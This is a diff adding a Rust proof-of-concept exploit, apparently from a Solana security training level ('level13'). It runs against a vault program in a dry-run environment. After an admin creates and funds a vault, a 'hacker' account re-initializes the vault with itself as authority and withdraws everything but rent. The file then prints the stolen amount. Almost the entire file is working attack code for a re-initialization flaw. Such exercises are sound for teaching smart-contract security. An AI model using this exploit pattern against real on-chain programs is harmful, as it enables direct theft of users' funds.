@@ -0,0 +1,127 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        system_instruction,
+        sysvar,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Keypair, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum VaultInstruction {
+    Initialize,
+    Deposit { amount: u64 },
+    Withdraw { amount: u64 },
+}
+// We use the same Structure created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Vault {
+    pub is_initialized: bool,
+    pub authority: Pubkey,
+}
+
+pub const VAULT_LEN: u64 = 1 + 32;
+
+fn initialize(programa: Pubkey, vault: Pubkey, authority: Pubkey) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(vault, false),
+            AccountMeta::new_readonly(authority, true),
+            AccountMeta::new_readonly(sysvar::rent::id(), false),
+        ],
+        data: VaultInstruction::Initialize.try_to_vec().unwrap(),
+    }
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level13-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let admin = actors.get("admin");
+    let hacker = actors.get("hacker");
+    let vault = Keypair::new();
+    actors.label(vault.pubkey(), "level13_vault");
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("admin"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(hacker.pubkey(), LAMPORTS_PER_SOL);
+
+    /* First the admin creates, initializes and fills its Vault */
+    env.execute_as_transaction(
+        &[
+            system_instruction::create_account(
+                &admin.pubkey(),
+                &vault.pubkey(),
+                env.get_rent_excemption(VAULT_LEN as usize),
+                VAULT_LEN,
+                &programa,
+            ),
+            initialize(programa, vault.pubkey(), admin.pubkey()),
+            Instruction {
+                program_id: programa,
+                accounts: vec![
+                    AccountMeta::new(vault.pubkey(), false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: VaultInstruction::Deposit { amount: 5 * LAMPORTS_PER_SOL }.try_to_vec().unwrap(),
+            },
+        ],
+        &[&admin, &vault],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Vault: ".bold().blue(), env.get_deserialized_account::<Vault>(vault.pubkey()).unwrap().blue());
+    println!("{} {:?}", "Vault lamports: ".bold().blue(), env.get_account(vault.pubkey()).unwrap().lamports.blue());
+    println!("");
+
+    /* Second we initialize the admin's Vault again, with us as authority, and take everything but the rent */
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+    let loot = env.get_account(vault.pubkey()).unwrap().lamports - env.get_rent_excemption(VAULT_LEN as usize);
+    env.execute_as_transaction(
+        &[
+            initialize(programa, vault.pubkey(), hacker.pubkey()),
+            Instruction {
+                program_id: programa,
+                accounts: vec![
+                    AccountMeta::new(vault.pubkey(), false),
+                    AccountMeta::new_readonly(hacker.pubkey(), true),
+                    AccountMeta::new(hacker.pubkey(), false),
+                ],
+                data: VaultInstruction::Withdraw { amount: loot }.try_to_vec().unwrap(),
+            },
+        ],
+        &[&hacker],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*          RE-INITIALIZING THE VAULT       *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Vault: ".bold().red(), env.get_deserialized_account::<Vault>(vault.pubkey()).unwrap().red());
+    println!("{} {:?}", "Vault lamports: ".bold().red(), env.get_account(vault.pubkey()).unwrap().lamports.red());
+    println!("{} {:?}", "Hacker earned: ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}